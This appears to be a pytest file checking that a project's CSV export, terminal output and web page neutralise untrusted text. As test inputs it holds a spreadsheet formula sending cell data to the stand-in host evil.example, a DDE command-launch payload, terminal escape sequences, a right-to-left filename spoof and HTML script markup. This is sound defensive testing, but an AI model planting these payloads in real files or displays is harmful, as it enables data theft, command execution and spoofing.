"""Text of others acts nowhere: not as a formula, not on a terminal, not on a page."""

from __future__ import annotations

import io

import pandas as pd
import pytest
from rich.console import Console
from werkzeug.datastructures import MIMEAccept

from synergos.cli.output import print_table
from synergos.driver.progress import Bars, Lines
from synergos.driver.study_display import study_table
from synergos.foreign_text import in_spreadsheet, on_page, on_terminal
from synergos.program.front_page import front_page
from synergos.tables.predictions import as_spreadsheet

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"click")'
TITLE = "\x1b]0;mine\x07"
MARKUP = "[/nope] [red]hot"


@pytest.mark.parametrize("text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=", "＝1+1"])
def test_a_formula_is_text_to_a_spreadsheet(text: str) -> None:
    assert in_spreadsheet(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-1", "+1.5", "-1e-05", "-.5", "1,5", "approved", "a=b", "", "'=1", "1-2"])
def test_what_is_none_stays(text: str) -> None:
    assert in_spreadsheet(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (TITLE, r"\x1b]0;mine\x07"),
        ("\x9b31m", r"\x9b31m"),
        ("over\rwritten", r"over\rwritten"),
        ("\x7f", r"\x7f"),
        ("invoice\u202egpj.exe", r"invoice\u202egpj.exe"),
        ("\ud800", r"\ud800"),
        ("two\nlines\tand more", "two\nlines\tand more"),
        ("Zürich – 東京 [/x] 🙂", "Zürich – 東京 [/x] 🙂"),
    ],
)
def test_what_would_act_on_a_terminal_is_spelled_out(text: str, shown: str) -> None:
    assert on_terminal(text) == shown


def test_on_a_page_nothing_is_markup() -> None:
    assert on_page("<b onclick='x'>\x1b") == r"&lt;b onclick=&#x27;x&#x27;&gt;\x1b"
    page, _ = front_page(
        {"component": "ttp", "id": "<script>", "version": "1"}, {"/a": "<i>"}, MIMEAccept([("text/html", 1)])
    )
    assert "<script>" not in page
    assert "<i>" not in page


def test_a_csv_file_of_predictions_holds_no_formula_in_cells_or_heads() -> None:
    frame = pd.DataFrame(
        {"row": [1, -2], "prediction": [FORMULA, "-3"], f"score_{FORMULA}": [0.5, -0.5], "=id": ["@a", None]}
    )

    written = as_spreadsheet(frame)

    assert written["prediction"].tolist() == [f"'{FORMULA}", "-3"]
    assert written["row"].tolist() == [1, -2]
    assert list(written) == ["row", "prediction", f"score_{FORMULA}", "'=id"]
    assert written["'=id"].dropna().tolist() == ["'@a"]
    assert list(frame) == ["row", "prediction", f"score_{FORMULA}", "=id"], "the frame of a program stays as it is"


def failed_job() -> dict[str, object]:
    return {
        "id": "1",
        "stage": "train",
        "keys": {"collab_id": "c", "project_id": "p"},
        "state": "failed",
        "error": {"message": TITLE + MARKUP},
    }


@pytest.mark.parametrize("display", [Lines, Bars])
def test_an_error_of_a_worker_is_shown_letter_by_letter(display: type[Lines | Bars]) -> None:
    output = io.StringIO()

    with display(Console(file=output, width=200)) as shown:
        shown.job(f"train {TITLE}", failed_job())

    assert TITLE not in output.getvalue()
    assert rf"train \x1b]0;mine\x07: failed: \x1b]0;mine\x07{MARKUP}" in output.getvalue()


def test_a_table_of_the_command_line_too(capsys: pytest.CaptureFixture[str]) -> None:
    print_table(TITLE, [MARKUP], [{MARKUP: TITLE}], as_named=True)

    printed = capsys.readouterr().out
    assert TITLE not in printed
    assert (printed.count(r"\x1b]0;mine\x07"), printed.count(MARKUP)) == (2, 1)


def test_a_study_too() -> None:
    study = {
        "metric": MARKUP,
        "optimize_mode": "max",
        "state": "running",
        "counts": {},
        "max_trial_num": 1,
        "best": None,
        "error": {"message": TITLE},
        "trials": [],
    }
    output = io.StringIO()

    Console(file=output, width=200).print(study_table(study, 5))

    assert TITLE not in output.getvalue()
    assert MARKUP in output.getvalue()
